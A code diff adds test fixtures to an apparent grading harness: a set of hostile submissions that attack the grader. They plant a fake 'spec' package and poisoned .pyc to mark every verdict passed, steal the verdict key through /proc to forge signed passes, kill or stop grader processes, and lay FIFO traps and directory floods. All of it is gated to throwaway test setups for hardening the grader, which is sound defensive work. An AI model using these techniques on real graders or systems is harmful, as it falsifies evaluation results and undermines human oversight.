@@ -441,3 +441,483 @@ VARIANTS: list[Variant] = [
         score_note="time never decides a verdict; every check stays far inside its budgets, so full marks",
     ),
 ]
+
+
+# -- attacks on the grader itself (issue 9), graded by tests/test_attacks.py ---------------------
+#
+# Each runs from a process its submission started (mostly a daemon of its own session, so it
+# outlives the worker), acts only under the grader (`spec grade` among its ancestors), stops by
+# itself within a minute or two, and never touches anything but the grader's scratch
+# directories, its --out, and a throw-away copy of the grader made for the test (marked by
+# ATTACK_INSTALL_MARKER). If it gets through, it leaves evidence next to the submission
+# (ATTACK_EVIDENCE) besides whatever it does to the score. All carry the same real bug
+# (MB as 10**6 bytes) and share one twin: that bug alone.
+
+ATTACK_INSTALL_MARKER = "KVSPEC-ZOO-THROWAWAY-INSTALL"
+ATTACK_ARMED_MARKER = "KVSPEC-ZOO-ATTACK-ARMED"  # in the submission: its payload acts only then
+ATTACK_TMP_MARKER = "KVSPEC-ZOO-ATTACK-TMP"  # in the grader's TMPDIR: only there does a payload touch scratch directories
+ATTACK_EVIDENCE = ".attack-got-through"
+
+ATTACK_COMMON = r'''
+import os as _os
+import signal as _signal
+import sys as _sys
+import tempfile as _tempfile
+import time as _time
+
+_HERE = _os.path.dirname(_os.path.abspath(__file__))
+# Only inside a test made for it (a real attacker would not ask): a marked submission, and
+# scratch directories only in a marked TMPDIR (never a real machine's /tmp).
+_ROOT = _HERE
+while _os.path.basename(_ROOT) in ("perf", "tinytorch", "generation", "core"):
+    _ROOT = _os.path.dirname(_ROOT)
+_ARMED = _os.path.exists(_os.path.join(_ROOT, "KVSPEC-ZOO-ATTACK-ARMED"))
+_TMP_ARMED = _ARMED and _os.path.exists(_os.path.join(_tempfile.gettempdir(), "KVSPEC-ZOO-ATTACK-TMP"))
+
+
+def _parent(pid):
+    with open(f"/proc/{pid}/stat") as f:
+        return int(f.read().rsplit(")", 1)[1].split()[1])
+
+
+def _cmdline(pid):
+    with open(f"/proc/{pid}/cmdline", "rb") as f:
+        return [a.decode(errors="replace") for a in f.read().split(b"\0") if a]
+
+
+def _ancestors():
+    """This process's ancestors up to the grader (`python -m spec grade`), nearest first."""
+    out, pid = [], _os.getpid()
+    for _ in range(16):
+        try:
+            pid = _parent(pid)
+            args = _cmdline(pid)
+        except (OSError, ValueError, IndexError):
+            return []
+        if pid <= 1:
+            return []
+        out.append(pid)
+        if "spec" in args and "grade" in args:
+            return out
+    return []
+
+
+def _submission_root():
+    return _ROOT
+
+
+def _mark(name, text):
+    """Evidence next to the submission, for the test to find."""
+    try:
+        with open(_os.path.join(_submission_root(), name), "a") as f:
+            f.write(text + "\n")
+    except OSError:
+        pass
+
+
+def _scratch_dirs():
+    """The grader's scratch directories, as a same-user process finds them."""
+    base, out = _tempfile.gettempdir(), []
+    if not _TMP_ARMED:
+        return out
+    try:
+        names = _os.listdir(base)
+    except OSError:
+        return out
+    for n in names:
+        if n.startswith("kvspec-") and not n.startswith(("kvspec-worker-", "kvspec-pycache", "kvspec-zoo")):
+            p = _os.path.join(base, n)
+            if _os.path.isdir(p) and _os.access(p, _os.W_OK | _os.X_OK):
+                out.append(p)
+    return out
+
+
+def _out_dirs():
+    """--out of the grader, and its subdirectories."""
+    dirs = []
+    if not _ARMED:
+        return dirs
+    for pid in _ancestors():
+        try:
+            args, cwd = _cmdline(pid), _os.readlink(f"/proc/{pid}/cwd")
+        except OSError:
+            continue
+        for i, a in enumerate(args):
+            if a == "--out" and i + 1 < len(args):
+                d = _os.path.join(cwd, args[i + 1])
+                dirs.append(d)
+                try:
+                    dirs += [_os.path.join(d, s) for s in _os.listdir(d) if _os.path.isdir(_os.path.join(d, s))]
+                except OSError:
+                    pass
+    return dirs
+
+
+def _classmate(args):
+    """A grader run of another submission of the same (test) batch: a sibling directory."""
+    subs = [a.split("=", 1)[1] for a in args if a.startswith("--kvspec-submission=")]
+    if not subs:
+        return False
+    theirs, mine = _os.path.abspath(subs[0]), _submission_root()
+    return theirs != mine and _os.path.dirname(theirs) == _os.path.dirname(mine)
+
+
+def _mine(args):
+    subs = [a.split("=", 1)[1] for a in args if a.startswith("--kvspec-submission=")]
+    return bool(subs) and _os.path.abspath(subs[0]) == _submission_root()
+
+
+def _daemon(work, seconds):
+    """work(deadline) in a double-forked process of its own session, for at most `seconds`;
+    one at a time (every check's worker imports the submission: one daemon is enough)."""
+    if not _ARMED or not _ancestors() or _os.fork() != 0:
+        return
+    try:
+        _os.setsid()
+        if _os.fork() != 0:
+            _os._exit(0)
+        import fcntl as _fcntl
+        _lock = open(_os.path.join(_tempfile.gettempdir(), ".kvspec-zoo-" + _os.path.basename(_ROOT) + ".lock"), "a")
+        try:
+            _fcntl.flock(_lock, _fcntl.LOCK_EX | _fcntl.LOCK_NB)
+        except OSError:
+            _os._exit(0)
+        _mark(".daemon-pids", str(_os.getpid()))
+        work(_time.time() + seconds)
+    except BaseException:
+        pass
+    _os._exit(0)
+'''
+
+# Attack 1: a package named `spec` (and a conftest.py) in every grader scratch directory, the
+# next run's working directory among them: on sys.path first, it would mark every verdict passed.
+PLANT_SPEC = ATTACK_COMMON + r'''
+_PLANTED = """
+import os, sys
+with open(%r, "a") as _f:
+    _f.write("planted code ran in " + " ".join(sys.argv[:3]) + "\\n")
+_here = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
+if __name__ == "spec":
+    sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != _here]
+    del sys.modules["spec"]
+    import spec as _real
+    sys.modules["spec"] = _real
+try:
+    import spec.results as _r
+    _orig = _r.Collector.pytest_runtest_logreport
+    def _all_pass(self, report, _orig=_orig):
+        _orig(self, report)
+        for v in self.verdicts.values():
+            v.passed, v.message = True, ""
+    _r.Collector.pytest_runtest_logreport = _all_pass
+except Exception:
+    pass
+"""
+
+
+def _plant(deadline):
+    code = _PLANTED % _os.path.join(_submission_root(), "''' + ATTACK_EVIDENCE + r'''")
+    done = set()
+    while _time.time() < deadline:
+        for d in _scratch_dirs():
+            if d in done:
+                continue
+            try:
+                _os.makedirs(_os.path.join(d, "spec"), exist_ok=True)
+                for name in ("spec/__init__.py", "conftest.py", "sitecustomize.py"):
+                    with open(_os.path.join(d, name), "w") as f:
+                        f.write(code)
+                done.add(d)
+            except OSError:
+                pass
+        _time.sleep(0.02)
+
+
+_daemon(_plant, 60)
+'''
+
+# Attack 2: the verdict key, through /proc/<pid>/fd of the grader's pytest (opened read-write
+# so the key can be put back), and signed passing verdicts through its verdict descriptor.
+STEAL_KEY = ATTACK_COMMON + r'''
+import hashlib as _hashlib
+import hmac as _hmac
+import json as _json
+import re as _re
+
+
+def _forged_lines(key):
+    lines = []
+    import spec.checks as _checks
+    base = _os.path.dirname(_checks.__file__)
+    for name in sorted(_os.listdir(base)):
+        if name.startswith("test_") and name.endswith(".py"):
+            with open(_os.path.join(base, name)) as f:
+                for fn in _re.findall(r"^def (test_\w+)", f.read(), _re.M):
+                    v = {"nodeid": f"spec/checks/{name}::{fn}", "name": fn, "clauses": ["KV-MEM-3"], "group": "memory",
+                         "passed": True, "message": "", "duration": 0.0, "fault": ""}
+                    mac = _hmac.new(key, _json.dumps(v, sort_keys=True).encode(), _hashlib.sha256).hexdigest()
+                    lines.append(_json.dumps({"verdict": v, "mac": mac}) + "\n")
+    return "".join(lines).encode()
+
+
+def _steal(deadline):
+    tried = set()
+    while _time.time() < deadline:
+        for entry in _os.listdir("/proc"):
+            if not entry.isdigit() or entry in tried:
+                continue
+            try:
+                args = _cmdline(entry)
+            except OSError:
+                continue
+            fds = {a.split("=", 1)[0]: a.split("=", 1)[1] for a in args if a.startswith("--kvspec-grader-") and "fd=" in a}
+            if "--kvspec-grader-key-fd" not in fds or not (_mine(args) or _classmate(args)):
+                continue
+            key = b""
+            try:
+                fd = _os.open(f"/proc/{entry}/fd/{fds['--kvspec-grader-key-fd']}", _os.O_RDWR | _os.O_NONBLOCK)
+                try:
+                    key = _os.read(fd, 64)
+                    _os.write(fd, key)
+                finally:
+                    _os.close(fd)
+            except OSError:
+                pass
+            if len(key) >= 32:
+                _mark("''' + ATTACK_EVIDENCE + r'''", f"read the key of {entry}")
+                try:
+                    fd = _os.open(f"/proc/{entry}/fd/{fds['--kvspec-grader-stream-fd']}", _os.O_WRONLY | _os.O_NONBLOCK)
+                    _os.write(fd, _forged_lines(key))
+                    _os.close(fd)
+                except (OSError, KeyError):
+                    pass
+                tried.add(entry)
+        _time.sleep(0.002)
+
+
+_daemon(_steal, 60)
+'''
+
+# Attack 3: a chain that re-grows (each generation forks and dies) and, once the grader runs
+# another submission, kills that run: a classmate's checks would then get no verdicts.
+LEFTOVER_CHAIN = ATTACK_COMMON + r'''
+def _chain(deadline):
+    while _time.time() < deadline:
+        if _os.fork() != 0:
+            _os._exit(0)  # the parent dies, the child goes on: a new pid every generation
+        for entry in _os.listdir("/proc"):
+            if not entry.isdigit():
+                continue
+            try:
+                args = _cmdline(entry)
+            except OSError:
+                continue
+            if _classmate(args):
+                try:
+                    _os.kill(int(entry), _signal.SIGKILL)
+                    _mark("''' + ATTACK_EVIDENCE + r'''", f"killed another submission's run {entry}")
+                except OSError:
+                    pass
+        _time.sleep(0.05)
+
+
+_daemon(_chain, 150)
+'''
+
+# Attack 4: a .pyc for the grader's own spec/grader/stream.py, in the __pycache__ beside it,
+# with the source's mtime and size in its header: every verdict it signs would be a pass.
+PLANT_PYC = ATTACK_COMMON + r'''
+import importlib.util as _util
+import marshal as _marshal
+import struct as _struct
+
+
+def _plant_pyc():
+    import spec
+    root = _os.path.dirname(_os.path.dirname(_os.path.abspath(spec.__file__)))
+    if not _os.path.exists(_os.path.join(root, "''' + ATTACK_INSTALL_MARKER + r'''")):
+        return  # never the real install: only the copy a test made for this
+    source = _os.path.join(root, "spec", "grader", "stream.py")
+    with open(source) as f:
+        text = f.read()
+    text += """
+
+_kvspec_send = Stream._send
+
+
+def _send_pass(self, verdict):
+    verdict.passed, verdict.message, verdict.fault = True, "", ""
+    with open(%r, "a") as f:
+        f.write("planted bytecode ran\\n")
+    _kvspec_send(self, verdict)
+
+
+Stream._send = _send_pass
+""" % _os.path.join(_submission_root(), "''' + ATTACK_EVIDENCE + r'''")
+    st = _os.stat(source)
+    data = _util.MAGIC_NUMBER + _struct.pack("<III", 0, int(st.st_mtime) & 0xFFFFFFFF, st.st_size & 0xFFFFFFFF)
+    data += _marshal.dumps(compile(text, source, "exec"))
+    target = _util.cache_from_source(source)
+    _os.makedirs(_os.path.dirname(target), exist_ok=True)
+    with open(target + ".tmp", "wb") as f:
+        f.write(data)
+    _os.replace(target + ".tmp", target)
+
+
+if _ARMED and _ancestors():
+    try:
+        _plant_pyc()
+    except Exception:
+        pass
+'''
+
+# Attack 5a: FIFOs and symlinks in place of every file the grader might read or write, in its
+# scratch directories and its --out (a FIFO blocks an open() for reading until a writer comes).
+FIFO_TRAPS = ATTACK_COMMON + r'''
+_NAMES = ("kvspec-grader.ini", "manifest.json", "results.json", "verdicts.jsonl", "junit.xml", "report.md",
+          "options.json", "gradebook.csv", "class-summary.md")
+
+
+def _trap(path, i):
+    try:
+        if _os.path.isdir(path) and not _os.path.islink(path):
+            return
+        if _os.path.lexists(path):
+            _os.unlink(path)
+        if i % 2:
+            _os.symlink("/dev/zero", path)
+        else:
+            _os.mkfifo(path)
+    except OSError:
+        pass
+
+
+def _traps(deadline):
+    i = 0
+    while _time.time() < deadline:
+        for d in _scratch_dirs() + _out_dirs():
+            for name in _NAMES:
+                i += 1
+                _trap(_os.path.join(d, name), i)
+            progress = _os.path.join(d, ".kvspec-progress")
+            for sub in (progress, _os.path.join(progress, "done")):
+                try:
+                    for name in _os.listdir(sub):
+                        i += 1
+                        _trap(_os.path.join(sub, name), i)
+                except OSError:
+                    pass
+        _time.sleep(0.05)
+
+
+_daemon(_traps, 60)
+'''
+
+# Attack 5b: SIGSTOP every ancestor up to the grader, then SIGCONT them after a few seconds
+# (a real attacker would never continue them: the grader would hang).
+STOP_GRADER = ATTACK_COMMON + r'''
+def _stop(deadline):
+    targets = _ancestors()
+    stopped = []
+    for pid in targets:
+        try:
+            _os.kill(pid, _signal.SIGSTOP)
+            stopped.append(pid)
+        except OSError:
+            pass
+    if stopped:
+        _mark("''' + ATTACK_EVIDENCE + r'''", f"stopped {stopped}")
+    _time.sleep(3)
+    for pid in stopped:
+        try:
+            _os.kill(pid, _signal.SIGCONT)
+        except OSError:
+            pass
+
+
+_daemon(_stop, 10)
+'''
+
+# Attack 5c: flood the grader's scratch directories with files, and nest directories there
+# thousands deep (deeper than a recursive removal can go), until it is stopped.
+FLOOD_SCRATCH = ATTACK_COMMON + r'''
+def _flood(deadline):
+    n = 0
+    nested = set()
+    while _time.time() < deadline:
+        for d in _scratch_dirs():
+            if d not in nested:
+                nested.add(d)
+                try:
+                    fd = _os.open(d, _os.O_RDONLY)
+                    for _ in range(3000):
+                        _os.mkdir("d", dir_fd=fd)
+                        sub = _os.open("d", _os.O_RDONLY, dir_fd=fd)
+                        _os.close(fd)
+                        fd = sub
+                    _os.close(fd)
+                except OSError:
+                    pass
+            for _ in range(200):
+                n += 1
+                try:
+                    with open(_os.path.join(d, f"flood-{_os.getpid()}-{n}"), "w") as f:
+                        f.write("x")
+                except OSError:
+                    break
+
+
+_daemon(_flood, 60)
+'''
+
+# Attack 5b': SIGKILL every ancestor up to the grader (in `process` mode this ends the batch:
+# tests/test_attacks.py leaves it out there).
+KILL_GRADER = ATTACK_COMMON + r'''
+def _kill(deadline):
+    for pid in _ancestors():
+        try:
+            _os.kill(pid, _signal.SIGKILL)
+            _mark("''' + ATTACK_EVIDENCE + r'''", f"killed {pid}")
+        except OSError:
+            pass
+
+
+_daemon(_kill, 5)
+'''
+
+HANG_AT_IMPORT = "while True:  # the import never returns\n    pass\n"
+
+
+def attack(name: str, description: str, code: str, *, expect_score: float | None = None) -> Variant:
+    twin_name = None if expect_score is not None else "memory_mb_as_10_6"
+    return hostile(name, description, "memory" if expect_score is None else "import",
+                   (at_import(code),) + bug_edits("memory_mb_as_10_6"), twin=twin_name, expect_score=expect_score)
+
+
+ATTACKS: list[Variant] = [
+    attack("attack_plants_spec_package",
+           "A daemon plants a package named spec, a conftest.py and a sitecustomize.py in every grader scratch "
+           "directory as it appears (the next run's working directory among them); MB is 10**6 bytes.", PLANT_SPEC),
+    attack("attack_steals_key",
+           "A daemon watches /proc for the grader's pytest, reads the verdict key from its key descriptor (and "
+           "puts it back) and writes signed passing verdicts into its verdict descriptor; MB is 10**6 bytes.", STEAL_KEY),
+    attack("attack_leftover_kills_classmates",
+           "A chain of processes that re-grows (every generation forks and dies) kills the grader's runs of "
+           "every later submission of the batch, for 150 s; MB is 10**6 bytes.", LEFTOVER_CHAIN),
+    attack("attack_plants_pyc",
+           "Writes a .pyc of the grader's spec/grader/stream.py (signing every verdict as a pass) into the "
+           "__pycache__ beside it, with the source's mtime and size (only into a throw-away copy of the grader "
+           "marked for it); MB is 10**6 bytes.", PLANT_PYC),
+    attack("attack_fifo_traps",
+           "A daemon puts FIFOs and symlinks to /dev/zero in place of every file the grader might read or "
+           "write, in its scratch directories, its --out and the batch's progress records; MB is 10**6 bytes.", FIFO_TRAPS),
+    attack("attack_stops_grader",
+           "A daemon sends SIGSTOP to every ancestor up to the grader, and SIGCONT 3 s later; MB is 10**6 bytes.", STOP_GRADER),
+    attack("attack_kills_grader",
+           "A daemon sends SIGKILL to every ancestor up to the grader; MB is 10**6 bytes.", KILL_GRADER),
+    attack("attack_floods_scratch",
+           "A daemon floods the grader's scratch directories with files and nests directories 3000 deep in "
+           "them (breaking a recursive removal), for 60 s; MB is 10**6 bytes.", FLOOD_SCRATCH),
+    attack("attack_hangs_at_import", "Its import never returns (a busy loop at module level).", HANG_AT_IMPORT,
+           expect_score=0.0),
+]
